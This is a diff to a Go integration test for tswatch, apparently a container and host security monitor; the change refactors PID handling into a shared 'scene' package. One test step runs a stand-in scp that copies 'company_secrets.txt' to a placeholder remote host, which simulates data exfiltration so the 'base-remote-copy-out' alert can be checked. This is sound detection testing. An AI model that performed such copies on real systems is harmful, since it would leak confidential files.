@@ -7,6 +7,8 @@ import (
 	"fmt"
 	"strings"
 	"testing"
+
+	"github.com/tsboot/tsboot/integration/watch/scene"
 )
 
 // TestStories are the three that tswatch is made for: a package manager in a container that is removed at once, a download
@@ -16,7 +18,7 @@ func TestStories(t *testing.T) {
 	borrow(t)
 	a := start(t)
 	s := serve(t, a)
-	environ := "SERVER=" + s.address
+	environ := "SERVER=" + s.Address
 	nginx, short := "some-nginx-"+strings.ToLower(rand.Text()), "short-"+strings.ToLower(rand.Text())
 	id := container(t, nginx, ref, "--network", "host", "-e", environ)
 
@@ -41,14 +43,14 @@ func TestStories(t *testing.T) {
 			t.Errorf("%s is in container %s, want %s", story.program, e.Container.ID, id)
 		}
 		if story.program != "sh" { // which does not visit the server
-			checkPIDs(t, e, s.visitor(story.program))
+			checkPIDs(t, e, s.Visitor(story.program))
 		}
 	}
 
 	asUser(t, []string{environ}, named(t, built(t, standin), "scp"), "company_secrets.txt", "somebody@elsewhere.example:host")
 	e := a.alert("base-remote-copy-out")
-	if e.Container != nil || e.Event.Severity != 3 || e.Tswatch.Attribution.Method != "host" || e.Process.PID != s.visitor("scp").host {
-		t.Errorf("the copy on the host is %+v, and its pid %d", e, s.visitor("scp").host)
+	if e.Container != nil || e.Event.Severity != 3 || e.Tswatch.Attribution.Method != "host" || e.Process.PID != s.Visitor("scp").Host {
+		t.Errorf("the copy on the host is %+v, and its pid %d", e, s.Visitor("scp").Host)
 	}
 	checkEvents(t, a.events(), id)
 }
@@ -66,12 +68,12 @@ func checkContainer(t *testing.T, e event, name, ref string) {
 }
 
 // checkPIDs compares both pids of an alert with those that /proc had.
-func checkPIDs(t *testing.T, e event, want pids) {
+func checkPIDs(t *testing.T, e event, want scene.PIDs) {
 	t.Helper()
-	if (pids{e.Process.PID, e.Process.VPID}) != want || want.host == 0 || want.host == want.inner {
+	if (scene.PIDs{Host: e.Process.PID, Inner: e.Process.VPID}) != want || want.Host == 0 || want.Host == want.Inner {
 		t.Errorf("%s has the pids %d and %d, want %+v", e.Process.Name, e.Process.PID, e.Process.VPID, want)
 	}
-	if !strings.Contains(e.Message, fmt.Sprintf("pid %d (pid %d in the container)", want.host, want.inner)) {
+	if !strings.Contains(e.Message, fmt.Sprintf("pid %d (pid %d in the container)", want.Host, want.Inner)) {
 		t.Errorf("the message does not have both pids %+v: %s", want, e.Message)
 	}
 }
